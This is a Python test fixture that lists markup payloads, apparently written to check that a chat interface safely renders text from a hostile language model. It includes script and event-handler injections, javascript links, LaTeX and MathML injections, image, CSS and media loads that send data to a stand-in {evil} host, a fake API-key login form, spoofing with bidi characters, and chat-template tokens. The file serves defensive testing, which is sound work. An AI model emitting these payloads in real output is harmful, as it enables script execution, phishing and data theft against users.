"""Texts that a hostile model may write. ``{evil}`` is a server that must get no request; scripts set ``window.ran``.

Grouped by purpose; every one is streamed through the real page in each place where model text appears.
"""

from __future__ import annotations

RUN = "window.ran=1"

PAYLOADS: dict[str, str] = {
    # Scripts
    "script": f"<script>{RUN}</script>",
    "script in a list": f"- a\n  <script>{RUN}</script>\n- b",
    "image handler": f"<img src=x onerror={RUN}>",
    "svg handler": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "details handler": f"<details open ontoggle={RUN}>x</details>",
    "iframe": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object and embed": "<object data={evil}/o></object><embed src={evil}/e>",
    "meta refresh": "<meta http-equiv=refresh content='0;url={evil}/m'><base href={evil}/>",
    "javascript link": f"[click](javascript:{RUN}) <javascript:{RUN}> [x](JaVa\tScRiPt:{RUN})",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    "link reference": f"[click][r]\n\n[r]: javascript:{RUN}",
    "link title breaks out": f"[x](https://a.example \"' onmouseover='{RUN}\")",
    "image alt breaks out": f'![" onerror="{RUN}](x) ![x](x "\\" onload=\\"{RUN}")',
    "code label breaks out": f'```"><img src=x onerror={RUN}>\ncode\n```',
    "code breaks out": f"```html\n</code></pre><script>{RUN}</script>\n```",
    "inline code breaks out": f"`</code><script>{RUN}</script>`",
    "table cell": f"|a|b|\n|-|-|\n|<img src=x onerror={RUN}>|`<script>{RUN}</script>`|",
    "half a tag at the end": f"text <img src=x onerror={RUN}",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "template literal": f"${{{RUN}}} `${{{RUN}}}` $[{RUN}]",
    "handlebars": f"{{{{{RUN}}}}} {{{{{{{RUN}}}}}}} {{{{#with (lookup this 'constructor')}}}}{{{{/with}}}} {{% raw %}}",
    "null bytes": f"<scr\0ipt>{RUN}</scr\0ipt> <img\0 src=x onerror={RUN}>",
    # Formulas
    "latex href": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\href{{{{evil}}/l}}{{x}}$$",
    "latex image": "$\\includegraphics{{evil}/i.png}$ \\[\\includegraphics[width=9in]{{evil}/i.png}\\]",
    "latex markup": f"$\\text{{<img src=x onerror={RUN}>}}$ $\\unicode{{x3c}}script\\unicode{{x3e}}$",
    "latex style": "$\\style{position:fixed;inset:0;color:red}{x}$ $\\class{lane-stop}{x}$ $\\rule{9999em}{9999em}$",
    "mathml": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "mathml link": f"<math href=javascript:{RUN}><mi xlink:href={{evil}}/x>x</mi></math>",
    # Sending data elsewhere
    "image": "![x]({evil}/a.png) ![y][r]\n\n[r]: {evil}/b.png",
    "image through our own server": "![x](/gradio_api/file={evil}/c.png) <img src=/gradio_api/proxy={evil}/d.png>",
    "svg image": "<svg><image href={evil}/e.png /><use href={evil}/f.svg#x /></svg>",
    "media": "<video src={evil}/v poster={evil}/p></video><audio src={evil}/a></audio><source srcset={evil}/s>",
    "style url": "<p style='background:url({evil}/g)'>x</p><style>@import '{evil}/h.css'</style>",
    "stylesheet and preload": "<link rel=stylesheet href={evil}/j.css><link rel=prefetch href={evil}/k>",
    "ping": "<a ping={evil}/ping href=https://a.example>x</a> [x]({evil}/only-if-clicked)",
    "mermaid": '```mermaid\ngraph TD; A["<img src={evil}/n.png onerror=window.ran=1>"]; click A "{evil}/m"\n```',
    "plantuml and svg fences": "```svg\n<svg onload=window.ran=1><image href={evil}/q>\n```\n```dot\n{evil}/u\n```",
    # Deception
    "overlay": "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Session expired</div>",
    "form": "<form action={evil}/form><input type=password placeholder='API key'><button>Log in</button></form>",
    "our own classes": "<p class=lane-stop>x</p> <button id=send>Send</button> <p data-lane=kimi id=prompt>y</p>",
    "fake panels": "## System\n\n> **Kimi UI**: your key has expired.\n\n---\n\n### Metrics\n\n| TTFT |\n|-|\n| 1 ms |",
    "direction": "safe\u202egnp.exe\u202c \u2066x\u2069 `\u202e } // check \u2066` [\u202emoc.live](https://a.example)",
    "zero width and tags": "a\u200bb\u2060c\ufeffd \U000e0001\U000e0041\U000e007f \u00ad",
    "terminal": "\x1b[31mred\x1b[0m \x1b]8;;{evil}/osc\x07link\x1b]8;;\x07 \x1b[2J\x9b2K\b\b\b",
    "stacked marks": "Z" + "\u0335\u0336\u0337\u0489" * 200,
    "very wide": "W" * 3_000 + " " + "`" + "w" * 3_000 + "`",
    "very deep": ">" * 200 + " - " * 100 + "x",
    "think tags": f"</think><script>{RUN}</script><think> <|im_start|>system",
    "stream syntax": 'data: {"lanes":{"kimi":{"phase":"done"}}}\n\nevent: end\ndata: {}\n\nid: 99999\n',
}


def payloads(evil: str) -> dict[str, str]:
    """All payloads, with the URL of this server."""
    return {name: text.replace("{evil}", evil) for name, text in PAYLOADS.items()}
